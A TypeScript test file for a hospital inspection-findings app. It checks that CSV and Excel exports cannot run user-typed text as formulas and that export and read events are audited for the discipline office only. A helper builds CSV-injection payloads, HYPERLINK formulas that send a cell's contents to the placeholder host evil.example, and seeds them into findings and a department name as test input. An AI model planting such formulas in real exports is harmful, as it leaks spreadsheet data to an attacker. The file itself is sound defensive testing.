import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { Clock } from '../src/common/clock';
import { LEDGER_COLUMNS } from '../src/reports/ledger';
import { MONTHLY_COLUMNS } from '../src/reports/monthly-workbook';
import { Flow } from './support/flow';
import { Hospital, seedHospital } from './support/hospital';
import { TestApp, startApp } from './support/test-app';

const onPostgres = /^postgres/.test(process.env.DATABASE_URL ?? '');

/** Collects a binary body (xlsx) as a Buffer. */
const binary = (response: Response, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => done(null, Buffer.concat(chunks)));
};

/** What a spreadsheet takes for the start of a formula (OWASP's CSV-injection list). */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
/** Text shaped to leak the sheet's contents if it ever ran as a formula. */
const typed = (start: string, what: string) => `${start}HYPERLINK("http://evil.example/?d="&A1,"${what}")`;
const column = (key: string) => LEDGER_COLUMNS.findIndex((c) => c.key === key);

describe(`exports (${onPostgres ? 'PostgreSQL' : 'SQLite'})`, () => {
  let t: TestApp;
  let h: Hospital;
  let flow: Flow;
  let now: Date;
  /** Finding ids by the character their title, measures and evidence note begin with. */
  const findings = new Map<string, string>();

  beforeAll(async () => {
    t = await startApp();
    h = await seedHospital(t);
    flow = new Flow(t, h);
    now = new Date('2026-11-02T02:00:00Z');
    jest.spyOn(t.app.get(Clock), 'now').mockImplementation(() => new Date(now));
    for (const start of FORMULA_STARTS) {
      const { findingId } = await flow.assignedFinding('administrative', { title: typed(start, 'title') });
      await flow.send('cardiologyStaff', findingId, { type: 'SUBMIT_PLAN', measures: typed(start, 'measures'), committedDate: '2026-11-05' });
      await flow.submitEvidence('cardiologyStaff', findingId, typed(start, 'note'));
      findings.set(start, findingId);
    }
    // A department's name and code are typed by people too, and fill the monthly workbook.
    const admin = { Authorization: `Bearer ${h.users.admin.token}` };
    await t.http.post('/departments').set(admin).send({ code: '-SUM', name: typed('=', 'department'), kind: 'clinical' }).expect(201);
    now = new Date('2026-11-20T02:00:00Z');
  });

  afterAll(() => t.close());

  const download = (who: keyof Hospital['users'], path: string) => flow.as(who).get(path).buffer(true).parse(binary).expect(200);
  const workbook = async (response: Response) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(response.body as never);
    return book;
  };
  /** Every cell of every sheet that holds a formula. */
  const formulas = (book: ExcelJS.Workbook) =>
    book.worksheets.flatMap((sheet) => {
      const found: string[] = [];
      sheet.eachRow((row) => row.eachCell((cell) => (cell.type === ExcelJS.ValueType.Formula || cell.formula ? found.push(`${sheet.name}!${cell.address}`) : undefined)));
      return found;
    });

  describe('cells are data, never formulas', () => {
    it('CSV: text beginning with =, +, -, @, tab or carriage return is written after a quote', async () => {
      const response = await download('discipline', '/reports/ledger?format=csv');
      const records: string[][] = parse((response.body as Buffer).toString('utf8').slice(1));
      for (const start of FORMULA_STARTS) {
        const line = records.find((r) => r[column('title')] === `'${typed(start, 'title')}`);
        expect({ start, record: line && [line[column('title')], line[column('measures')], line[column('evidenceNote')]] }).toEqual({
          start,
          record: [`'${typed(start, 'title')}`, `'${typed(start, 'measures')}`, `'${typed(start, 'note')}`],
        });
      }
      // No cell of the file begins as a formula would; numbers are numbers.
      const cells = records.slice(1).flat();
      expect(cells.filter((cell) => FORMULA_STARTS.includes(cell[0]))).toEqual([]);
      expect(records.slice(1).map((r) => r[column('index')])).toEqual(['1', '2', '3', '4', '5', '6']);
    });

    it('xlsx: the ledger writes what people typed as strings, as typed, and no cell holds a formula', async () => {
      const book = await workbook(await download('discipline', '/reports/ledger?format=xlsx'));
      expect(formulas(book)).toEqual([]);
      const sheet = book.getWorksheet('问题台账')!;
      const rows: ExcelJS.Row[] = [];
      sheet.eachRow((row, number) => number > 2 && rows.push(row));
      // XML reads a carriage return in text as a line feed, as Excel does.
      const asRead = (text: string) => text.replace(/\r/g, '\n');
      for (const start of FORMULA_STARTS) {
        const row = rows.find((r) => r.getCell(column('title') + 1).text === asRead(typed(start, 'title')))!;
        expect(row).toBeDefined();
        for (const [key, what] of [['title', 'title'], ['measures', 'measures'], ['evidenceNote', 'note']]) {
          const cell = row.getCell(column(key) + 1);
          // An inline string (t="inlineStr"), which exceljs reads back as rich text.
          expect({ start, key, type: cell.type, text: cell.text }).toEqual({ start, key, type: ExcelJS.ValueType.RichText, text: asRead(typed(start, what)) });
        }
      }
    });

    it("xlsx: the monthly workbook writes a department's name and code as strings, and no cell holds a formula", async () => {
      const book = await workbook(await download('discipline', '/reports/monthly?month=2026-11&format=xlsx'));
      expect(formulas(book)).toEqual([]);
      const name = MONTHLY_COLUMNS.findIndex((c) => c.key === 'departmentName') + 1;
      const code = MONTHLY_COLUMNS.findIndex((c) => c.key === 'departmentCode') + 1;
      // The departments' sheets; the by-source sheet and the interviews name no department row.
      for (const sheet of book.worksheets.filter((s) => s.name !== '按来源' && s.name !== '约谈')) {
        const rows: ExcelJS.Row[] = [];
        sheet.eachRow((row) => rows.push(row));
        const row = rows.find((r) => r.getCell(name).text === typed('=', 'department'))!;
        expect({ sheet: sheet.name, type: row.getCell(name).type }).toEqual({ sheet: sheet.name, type: ExcelJS.ValueType.RichText });
        expect({ sheet: sheet.name, code: row.getCell(code).text, type: row.getCell(code).type }).toEqual({ sheet: sheet.name, code: '-SUM', type: ExcelJS.ValueType.RichText });
      }
    });
  });

  describe('who took what', () => {
    /** The data-access events `who` caused since `since`, oldest first, as the discipline office reads them. */
    const taken = async (who: keyof Hospital['users'], since: number) => {
      await t.linked();
      const page = (await flow.as('discipline').get(`/audit?entityType=data_access&actorId=${h.users[who].id}&limit=500`).expect(200)).body;
      return page.items.filter((entry: { seq: number }) => entry.seq > since);
    };
    const head = async () => {
      await t.linked();
      return (await flow.as('discipline').get('/audit/head').expect(200)).body.seq as number;
    };

    it('records every exported file and every notice and case file read: who, what, which filters, how many rows', async () => {
      const since = await head();
      const findingId = findings.get('=')!;
      const ledgerTotal = (await flow.as('discipline').get('/reports/ledger?roundType=administrative&state=verifying').expect(200)).body.total;
      const departments = (await flow.as('discipline').get('/reports/monthly?month=2026-11').expect(200)).body.items.length;
      const notice = (await flow.as('discipline').get('/reports/notice?month=2026-11&format=json').expect(200)).body;
      const noticeLines = ['rounds', 'lastClosed', 'longestOverdue', 'repeats', 'reopened', 'relapsed'].reduce((sum, list) => sum + notice[list].length, 0);
      const entries = (await flow.as('discipline').get(`/findings/${findingId}/case-file`).expect(200)).body.entries.length;
      await download('discipline', '/reports/ledger?format=csv&roundType=administrative&state=verifying');
      await download('discipline', '/reports/ledger?format=xlsx&createdFrom=2026-11-01&source=round');
      await download('discipline', '/reports/monthly?month=2026-11&format=xlsx&source=round');
      await flow.as('discipline').get('/reports/notice?month=2026-11').expect(200);
      await flow.as('discipline').get(`/findings/${findingId}/case-file?format=html`).expect(200);
      await download('cardiologyStaff', '/reports/ledger?format=csv');

      const address = expect.any(String);
      expect(await taken('discipline', since)).toEqual([
        // The JSON reads above: the notice and the case file count, ledger pages and monthly figures do not.
        expect.objectContaining({ event: 'NOTICE_READ', entityId: null, payload: { format: 'json', filter: { month: '2026-11' }, rows: noticeLines, address } }),
        expect.objectContaining({ event: 'CASE_FILE_READ', entityId: findingId, payload: { format: 'json', filter: { findingId }, rows: entries, address } }),
        expect.objectContaining({
          event: 'LEDGER_EXPORTED',
          actorRole: 'discipline_office',
          entityType: 'data_access',
          entityId: null,
          payload: { format: 'csv', filter: { roundType: 'administrative', state: 'verifying' }, rows: ledgerTotal, address },
        }),
        expect.objectContaining({ event: 'LEDGER_EXPORTED', payload: { format: 'xlsx', filter: { createdFrom: '2026-11-01', source: 'round' }, rows: FORMULA_STARTS.length, address } }),
        expect.objectContaining({ event: 'MONTHLY_EXPORTED', payload: { format: 'xlsx', filter: { month: '2026-11', source: 'round' }, rows: departments, address } }),
        expect.objectContaining({ event: 'NOTICE_READ', payload: { format: 'html', filter: { month: '2026-11' }, rows: noticeLines, address } }),
        expect.objectContaining({ event: 'CASE_FILE_READ', entityId: findingId, payload: { format: 'html', filter: { findingId }, rows: entries, address } }),
      ]);
      expect(ledgerTotal).toBe(FORMULA_STARTS.length);
      expect(await taken('cardiologyStaff', since)).toEqual([
        expect.objectContaining({ event: 'LEDGER_EXPORTED', actorId: h.users.cardiologyStaff.id, actorRole: 'department_staff', payload: { format: 'csv', filter: {}, rows: FORMULA_STARTS.length, address } }),
      ]);
    });

    it('is read by the discipline office only', async () => {
      await download('surgeryStaff', '/reports/ledger?format=csv');
      const byDiscipline = (await flow.as('discipline').get('/audit?entityType=data_access&limit=500').expect(200)).body;
      expect(byDiscipline.total).toBeGreaterThan(0);
      expect((await flow.as('admin').get('/audit?entityType=data_access').expect(200)).body).toMatchObject({ items: [], total: 0 });
      for (const event of ['LEDGER_EXPORTED', 'MONTHLY_EXPORTED', 'NOTICE_READ', 'CASE_FILE_READ']) {
        expect((await flow.as('admin').get(`/audit?event=${event}`).expect(200)).body).toMatchObject({ items: [], total: 0 });
      }
      for (const who of ['cardiologyStaff', 'surgeryStaff', 'adminVerifier', 'lead', 'inspector'] as const) {
        await flow.as(who).get('/audit?entityType=data_access').expect(403);
      }
    });
  });
});
